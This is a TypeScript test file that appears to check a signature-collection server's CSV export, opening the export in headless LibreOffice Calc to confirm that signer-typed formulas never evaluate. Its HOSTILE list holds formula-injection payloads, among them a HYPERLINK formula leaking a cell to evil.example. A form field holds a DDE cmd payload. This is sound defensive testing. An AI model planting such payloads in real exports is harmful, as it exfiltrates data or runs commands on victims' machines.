/**
 * The export opened in a real spreadsheet: LibreOffice Calc (headless) imports the CSV with the
 * separators a French or German organiser may pick (`,`, `;`, TAB, all three) and saves it as
 * flat ODS. No cell may hold a formula, and with `,` there is one row per signature plus the
 * header. A control file with a live `=1+1` proves the import options do evaluate formulas.
 *
 * Needs `soffice` (Debian: libreoffice-calc-nogui); skipped with a message when it is absent.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import { getCsv, postForm, postJson, signature, startServer, tempDir, type TestServer } from './helpers.ts';

const SOFFICE = process.env['SOFFICE_PATH'] ?? '/usr/bin/soffice';
const HAVE_SOFFICE = existsSync(SOFFICE);
const run = promisify(execFile);

/** Hostile values a signer can type: formulas at the start, after each separator, fullwidth, forged rows. */
const HOSTILE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  ' =1+1',
  '\t=1+1',
  '\uFF1D1+1',
  'Bonjour;=1+1',
  'Hallo\t=1+1',
  'a,=1+1',
  'ok;"=1+1"',
  'ok; -1+1',
  'Line 1\n=1+1',
  'Line 1\r=1+1',
  'Line 1\r\n=1+1;=2+2\t=3+3',
  'I sign\nforged-row,free-baltabay,=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
];

/** Separator tokens of LibreOffice's CSV import filter: 44 `,`, 59 `;`, 9 TAB; `/` combines them. */
const SEPARATORS: Record<string, string> = { comma: '44', semicolon: '59', tab: '9', all: '44/59/9' };

interface Sheet {
  rows: number;
  formulas: string[];
}

/** Rows and formula cells of the first table of a flat ODS file. */
function readFods(path: string): Sheet {
  const xml = readFileSync(path, 'utf8');
  const table = xml.slice(xml.indexOf('<table:table '), xml.indexOf('</table:table>'));
  const rows = [...table.matchAll(/<table:table-row\b[^>]*>([\s\S]*?)<\/table:table-row>/g)]
    .filter((match) => /<text:p>/.test(match[1]!)); // trailing empty rows (if any) are not data
  const formulas = [...table.matchAll(/table:formula="([^"]*)"/g)].map((match) => match[1]!);
  return { rows: rows.length, formulas };
}

/** Converts every file in `files` to flat ODS with one soffice run per separator setting. */
async function convertAll(dir: string, files: string[]): Promise<Record<string, Record<string, Sheet>>> {
  // One profile for all runs: the first start creates it (slow), later ones reuse it.
  const profile = pathToFileURL(join(dir, 'profile')).href;
  const result: Record<string, Record<string, Sheet>> = {};
  for (const [name, separator] of Object.entries(SEPARATORS)) {
    const outdir = join(dir, name);
    mkdirSync(outdir);
    // Tokens: separator, text delimiter 34 ("), character set 76 (UTF-8), first line 1.
    await run(SOFFICE, [
      `-env:UserInstallation=${profile}`, '--headless', '--norestore',
      `--infilter=CSV:${separator},34,76,1`, '--convert-to', 'fods', '--outdir', outdir, ...files,
    ], { timeout: 120_000 });
    result[name] = Object.fromEntries(files.map((file) => {
      const base = file.slice(file.lastIndexOf('/') + 1).replace(/\.csv$/, '');
      return [base, readFods(join(outdir, `${base}.fods`))];
    }));
  }
  return result;
}

describe('the export in LibreOffice Calc', { skip: !HAVE_SOFFICE && `${SOFFICE} not found: install libreoffice-calc-nogui`, timeout: 300_000 }, () => {
  let server: TestServer;
  let dir: string;
  let sheets: Record<string, Record<string, Sheet>>;
  let signatures = 0;

  before(async () => {
    server = await startServer();
    for (const value of HOSTILE) {
      const response = await postJson(server.url, signature(
        { campaign: 'calc', consent: { updates: true, text: value }, message: { subject: 'Subject', body: value } },
        { comment: value },
      ));
      assert.equal(response.status, 201, JSON.stringify(response.body));
      signatures++;
    }
    const form = await postForm(server.url, {
      id: randomUUID(), campaign: 'calc', created_at: '2026-11-27T18:00:00Z', email: 'calc-form@example.org',
      first_name: '=1+1', last_name: '-1+1', organisation: '@SUM(1)', comment: 'x;=1+1\n=2+2', message_body: '=cmd|\' /C calc\'!A0',
    });
    assert.equal(form.status, 201, JSON.stringify(form.body));
    signatures++;

    dir = tempDir();
    const exported = join(dir, 'export.csv');
    writeFileSync(exported, (await getCsv(server.url, 'calc')).text);
    const control = join(dir, 'control.csv');
    // A live formula at a line start, which every separator setting reads as its own cell.
    writeFileSync(control, 'a\r\n=1+1\r\n');
    sheets = await convertAll(dir, [exported, control]);
  });
  after(async () => {
    await server?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  test('the control file does compute (the import evaluates formulas)', () => {
    for (const name of Object.keys(SEPARATORS)) {
      assert.ok(sheets[name]!.control!.formulas.length > 0, `${name}: the control's =1+1 should be a formula`);
    }
  });

  for (const name of Object.keys(SEPARATORS)) {
    test(`separator ${name}: no cell of the export is a formula`, () => {
      assert.deepEqual(sheets[name]!.export!.formulas, []);
    });
  }

  test('separator comma: one row per signature plus the header, no forged rows', () => {
    assert.equal(sheets['comma']!.export!.rows, signatures + 1);
    assert.equal(sheets['all']!.export!.rows, signatures + 1);
  });
});
